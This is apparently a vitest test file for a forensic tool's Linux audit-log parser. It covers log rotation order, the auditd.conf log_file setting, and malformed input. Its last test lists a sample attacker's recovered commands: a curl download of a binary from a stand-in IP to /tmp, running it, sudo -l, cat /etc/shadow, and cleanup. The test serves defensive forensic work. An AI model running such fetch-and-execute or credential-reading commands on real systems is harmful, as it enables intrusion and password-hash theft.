// The audit functions on targets: which files (rotations oldest first, auditd.conf's log_file), in which order,
// and what bad input gives (warnings naming the file, line and offset; an error for a file that is no log).
import fs from "node:fs";
import path from "node:path";
import { gzipSync } from "node:zlib";
import { describe, expect, it } from "vitest";
import { defaultRegistry } from "../../../../../../plugins/index.js";
import { runOnTarget } from "../../../../../../src/plugin/runner.js";
import type { AnyRecord } from "../../../../../../src/records/descriptor.js";
import { silentLogger } from "../../../../../../src/util/log.js";
import { tmpdir } from "../../../../../helpers/tmp.js";
import { logFileOf } from "../../../../../../plugins/os/unix/log/audit/config.js";
import { file } from "../../../../../../src/fs/memory.js";
import { recordProblems } from "../../../../../../src/records/validate.js";
import { logTree, run } from "./helpers.js";
import { openTarget } from "../../../../../../plugins/index.js";

const user = (sec: number, serial: number, text: string): string =>
  `type=USER msg=audit(${sec}.000:${serial}): pid=1 uid=0 auid=4294967295 ses=4294967295 msg='text=${text} exe="/usr/sbin/auditctl" hostname=? addr=? terminal=? res=success'`;

describe("the files", () => {
  it("reads the rotations oldest first (audit.log.2.gz, .1, the live file), each record naming its file", async () => {
    const r = await run("audit", {
      "/var/log/audit/audit.log": `${user(300, 3, "three")}\n`,
      "/var/log/audit/audit.log.1": `${user(200, 2, "two")}\n`,
      "/var/log/audit/audit.log.2.gz": gzipSync(`${user(100, 1, "one")}\n`),
    });
    expect(r.errors).toEqual([]);
    expect(r.records.map((x) => [x.audit_id, x.filepath])).toEqual([
      [1, "/var/log/audit/audit.log.2.gz"],
      [2, "/var/log/audit/audit.log.1"],
      [3, "/var/log/audit/audit.log"],
    ]);
    for (const rec of r.records) expect(recordProblems(rec)).toEqual([]);
  });

  it("adds auditd.conf's log_file (its rotations too), once when it is the default", async () => {
    const r = await run("audit", {
      "/etc/audit/auditd.conf": "# audit\nlog_file = /srv/audit/audit.log   \nlog_format = ENRICHED\n",
      "/srv/audit/audit.log": `${user(300, 3, "srv")}\n`,
      "/srv/audit/audit.log.1": `${user(200, 2, "srv-old")}\n`,
      "/var/log/audit/audit.log": `${user(100, 1, "default")}\n`,
    });
    expect(r.records.map((x) => x.filepath)).toEqual(["/var/log/audit/audit.log", "/srv/audit/audit.log.1", "/srv/audit/audit.log"]);
    const same = await run("audit", { "/etc/audit/auditd.conf": "log_file=/var/log/audit/audit.log\n", "/var/log/audit/audit.log": `${user(1, 1, "x")}\n` });
    expect(same.records).toHaveLength(1);
    const only = await run("audit", { "/etc/audit/auditd.conf": "log_file = /data/audit.log\n", "/data/audit.log": `${user(1, 1, "x")}\n` });
    expect(only.records.map((x) => x.filepath)).toEqual(["/data/audit.log"]);
  });

  it("log_file: the last line wins, comments are no value, a relative path is reported and ignored", async () => {
    expect(logFileOf("log_file = /a\n#log_file = /b\nlog_file=/c # trailing\n")).toBe("/c");
    expect(logFileOf("write_logs = no\n")).toBeNull();
    const r = await run("audit", { "/etc/audit/auditd.conf": "log_file = audit.log\n", "/var/log/audit/audit.log": `${user(1, 1, "x")}\n` });
    expect(r.records).toHaveLength(1);
    expect(r.warnings.map((w) => w.message)).toEqual(['log_file "audit.log" is not an absolute path: ignored']);
  });

  it("is not applicable without a log, and says why", async () => {
    const r = await run("audit", { "/etc/hostname": "x\n" });
    expect(r.outcome.status).toBe("absent");
    expect(r.outcome.reason).toBe("no /var/log/audit/audit.log* (nor auditd.conf's log_file)");
  });
});

describe("bad input", () => {
  it("a line that is no audit record: a warning with the line and its offset; the lines around it are read", async () => {
    const good1 = user(1, 1, "a");
    const bad = "\x7fELF\x02\x01\x01 binary junk";
    const r = await run("audit", logTree(`${good1}\n${bad}\n${user(2, 2, "b")}\n`));
    expect(r.records.map((x) => x.audit_id)).toEqual([1, 2]);
    expect(r.warnings).toEqual([{ message: "line 2: not an audit record (no type=... msg=audit(...) header); skipped", file: "/var/log/audit/audit.log", offset: good1.length + 1 }]);
    expect(r.errors).toEqual([]);
  });

  it("NULs before a line (a block a crash left unwritten) are dropped and the line read", async () => {
    const r = await run("audit", logTree(`${"\0".repeat(4096)}${user(1, 1, "after the hole")}\n`));
    expect(r.records.map((x) => x.audit_id)).toEqual([1]);
    expect(r.warnings[0]!.message).toBe("line 1: 4096 NUL bytes before the line (a block a crash left unwritten): dropped");
  });

  it("a file that is no audit log is an error for that file only; the next file is read", async () => {
    const text = Array.from({ length: 100 }, (_, i) => `Mar  4 08:15:${String(i % 60).padStart(2, "0")} web01 sshd[812]: line ${i}`).join("\n");
    const r = await run("audit", { "/var/log/audit/audit.log.1": text, "/var/log/audit/audit.log": `${user(1, 1, "x")}\n` });
    expect(r.records.map((x) => x.filepath)).toEqual(["/var/log/audit/audit.log"]);
    expect(r.errors).toEqual([
      { message: "not an audit log: none of its first 64 lines is an audit record (line 1: not an audit record (no type=... msg=audit(...) header)); not read", file: "/var/log/audit/audit.log.1" },
    ]);
  });

  it("a short file of other text is no audit log either", async () => {
    const r = await run("audit", logTree("hello\nworld\n"));
    expect(r.records).toEqual([]);
    expect(r.errors.map((e) => e.message)).toEqual(["not an audit log: none of its 2 lines is an audit record (line 1: not an audit record (no type=... msg=audit(...) header))"]);
  });

  it("invalid UTF-8 is kept as surrogate escapes, an ANSI escape as it is (text output escapes it)", async () => {
    const line = Buffer.concat([Buffer.from(`type=USER msg=audit(1.000:1): pid=1 uid=0 msg='text=caf`), Buffer.from([0xe9, 0xff]), Buffer.from(` comm="\x1b[31mred" res=success'\n`)]);
    const r = await run("audit", logTree(line));
    expect(r.records[0]!.fields).toEqual(["text=caf\udce9\udcff"]);
    expect(r.records[0]!.comm).toBe("\x1b[31mred");
  });

  it("a time stamp past year 9999 keeps the line with ts null, warned", async () => {
    const r = await run("audit", logTree(`${user(999999999999, 1, "far")}\n`));
    expect(r.records[0]!.ts).toBeNull();
    expect(r.warnings[0]!.message).toBe("line 1: time stamp 999999999999 is past year 9999: kept with ts null");
  });

  it("a gzip'd rotation cut short: its lines before the cut, a warning, the live file read", async () => {
    const gz = gzipSync(Array.from({ length: 2000 }, (_, i) => user(100 + i, i + 1, `n${i}`)).join("\n") + "\n");
    const r = await run("audit", { "/var/log/audit/audit.log.1.gz": file(gz.subarray(0, gz.length >> 1)), "/var/log/audit/audit.log": `${user(9999, 9999, "live")}\n` });
    const fromGz = r.records.filter((x) => x.filepath === "/var/log/audit/audit.log.1.gz");
    expect(fromGz.length).toBeGreaterThan(100);
    expect(fromGz.length).toBeLessThan(2000);
    expect(r.records.at(-1)!.audit_id).toBe(9999);
    expect(r.warnings.some((w) => w.file === "/var/log/audit/audit.log.1.gz" && /damaged|truncat/i.test(w.message))).toBe(true);
  });
});

describe("the sample host web01 (tar and tar.gz)", () => {
  const tarPath = path.resolve(import.meta.dirname, "../../../../../../fixtures/hosts/web01.tar");

  async function eventsOf(p: string): Promise<AnyRecord[]> {
    const t = await openTarget(p);
    const records: AnyRecord[] = [];
    const sink = { write: (r: AnyRecord) => void records.push(r), close: async () => {} };
    await runOnTarget(t, defaultRegistry.resolve("audit.events").groups, defaultRegistry, sink, { log: silentLogger });
    t.close();
    return records;
  }

  it("mallory's commands, named by the log though her account is gone from /etc/passwd, the same from the tar and the tar.gz", async () => {
    const dir = tmpdir();
    const gz = path.join(dir, "web01.tar.gz");
    fs.writeFileSync(gz, gzipSync(fs.readFileSync(tarPath)));
    for (const p of [tarPath, gz]) {
      const ran = (await eventsOf(p)).filter((e) => e.auid_name === "mallory" && (e.argv as string[]).length > 0);
      expect(ran.map((e) => (e.argv as string[]).join(" "))).toEqual([
        "id",
        "curl -s -o /tmp/.x http://192.0.2.66:4553/x",
        "chmod +x /tmp/.x",
        "/tmp/.x -c \x1b[8mhidden",
        "sudo -l",
        "cat /etc/shadow",
        "rm -f /tmp/.x",
      ]);
      expect(ran.every((e) => e.filepath === "/var/log/audit/audit.log.1" && e.auid === 1200 && e.ses === ran[0]!.ses)).toBe(true);
    }
  });
});
